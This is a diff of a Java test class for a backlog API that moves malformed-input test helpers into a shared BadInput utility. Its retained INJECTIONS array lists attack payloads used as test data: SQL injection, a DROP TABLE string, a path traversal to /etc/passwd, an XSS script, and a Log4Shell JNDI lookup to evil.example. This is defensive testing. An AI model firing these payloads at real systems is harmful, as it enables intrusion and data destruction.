@@ -1,7 +1,7 @@
 package io.entente.backlog;
 
-import com.fasterxml.jackson.databind.ObjectMapper;
-import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.entente.platform.testing.BadInput;
+import io.entente.platform.testing.BadInput.Case;
 import io.entente.platform.testing.TestTokens;
 import io.quarkus.test.junit.QuarkusTest;
 import io.restassured.response.Response;
@@ -16,6 +16,11 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.stream.Stream;
 
+import static io.entente.platform.testing.BadInput.abbreviate;
+import static io.entente.platform.testing.BadInput.common;
+import static io.entente.platform.testing.BadInput.field;
+import static io.entente.platform.testing.BadInput.str;
+import static io.entente.platform.testing.BadInput.with;
 import static io.restassured.RestAssured.given;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
@@ -30,17 +35,8 @@ class BadInputTest {
     static final String ALLIANCE = "B-BAD";
     static final String USER = "bad-input";
     static final String TOKEN = TestTokens.user(USER).roles("alliance-manager").alliances(ALLIANCE).sign();
-    static final ObjectMapper JSON = new ObjectMapper();
-    static final String BIG = "x".repeat(600 * 1024);
     static final String[] INJECTIONS = {"ONC-HELIX' OR '1'='1", "B-BAD; DROP TABLE backlog_item; --",
             "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "B-BAD\u0000"};
-
-    record Case(String name, String method, String path, String contentType, String body) {
-        @Override
-        public String toString() {
-            return method + " " + path.replaceAll("[0-9a-f-]{36}", "{id}") + ": " + name;
-        }
-    }
 
     static final String ITEM = """
             {"allianceId":"B-BAD","title":"Prepare JSC","description":"d","discipline":"GOVERNANCE","type":"TASK",
@@ -73,78 +69,13 @@ class BadInputTest {
         }
     }
 
-    static String with(String valid, String field, String rawJson) {
-        try {
-            ObjectNode node = (ObjectNode) JSON.readTree(valid);
-            if (rawJson == null) {
-                node.remove(field);
-            } else {
-                node.set(field, JSON.readTree(rawJson));
-            }
-            return JSON.writeValueAsString(node);
-        } catch (Exception e) {
-            throw new IllegalStateException(e);
-        }
-    }
 
-    static String str(String s) {
-        try {
-            return JSON.writeValueAsString(s);
-        } catch (Exception e) {
-            throw new IllegalStateException(e);
-        }
-    }
 
-    /** The breakages every JSON write gets. */
-    static List<Case> common(String method, String path, String valid, String textField) {
-        List<Case> cases = new ArrayList<>();
-        String json = "application/json";
-        cases.add(new Case("empty body", method, path, json, ""));
-        cases.add(new Case("truncated JSON", method, path, json, valid.substring(0, valid.length() / 2)));
-        cases.add(new Case("not JSON", method, path, json, "title=hello&x=1"));
-        cases.add(new Case("JSON array", method, path, json, "[" + valid + "]"));
-        cases.add(new Case("JSON null", method, path, json, "null"));
-        cases.add(new Case("JSON string", method, path, json, "\"hello\""));
-        cases.add(new Case("trailing garbage", method, path, json, valid + "}}"));
-        cases.add(new Case("duplicate nesting", method, path, json, "{\"a\":" + valid + "}"));
-        cases.add(new Case("wrong content type", method, path, "text/plain", valid));
-        cases.add(new Case("XML", method, path, "application/xml", "<item><title>x</title></item>"));
-        cases.add(new Case("missing everything", method, path, json, "{}"));
-        cases.add(new Case("unknown field", method, path, json, with(valid, "hacker", "true")));
-        cases.add(new Case("client sets id", method, path, json,
-                with(valid, "id", "\"00000000-0000-0000-0000-000000000001\"")));
-        cases.add(new Case("client sets version", method, path, json, with(valid, "version", "7")));
-        cases.add(new Case("client sets createdAt", method, path, json,
-                with(valid, "createdAt", "\"2020-01-01T00:00:00Z\"")));
-        cases.add(new Case("client sets createdBy", method, path, json, with(valid, "createdBy", "\"admin\"")));
-        cases.add(new Case(textField + " as object", method, path, json, with(valid, textField, "{\"a\":1}")));
-        cases.add(new Case(textField + " as array", method, path, json, with(valid, textField, "[\"a\"]")));
-        cases.add(new Case(textField + " blank", method, path, json, with(valid, textField, "\"   \"")));
-        cases.add(new Case(textField + " 10k characters", method, path, json,
-                with(valid, textField, str("y".repeat(10_000)))));
-        cases.add(new Case(textField + " with a NUL character", method, path, json,
-                with(valid, textField, "\"a\\u0000b\"")));
-        cases.add(new Case("body over 512 KB", method, path, json, with(valid, textField, str(BIG))));
-        cases.add(new Case("deeply nested", method, path, json, valid.substring(0, valid.lastIndexOf('}'))
-                + ",\"x\":" + "[".repeat(2000) + "]".repeat(2000) + "}"));
-        return cases;
-    }
 
-    static List<Case> field(String method, String path, String valid, String field, String... rawValues) {
-        List<Case> cases = new ArrayList<>();
-        for (String raw : rawValues) {
-            cases.add(new Case(field + " = " + (raw == null ? "(missing)" : abbreviate(raw)), method, path,
-                    "application/json", with(valid, field, raw)));
-        }
-        return cases;
-    }
 
-    static String abbreviate(String s) {
-        return s.length() > 40 ? s.substring(0, 40) + "…" : s;
-    }
 
     static List<String> injections() {
-        return Stream.of(INJECTIONS).map(BadInputTest::str).toList();
+        return Stream.of(INJECTIONS).map(BadInput::str).toList();
     }
 
     static Stream<Case> cases() {
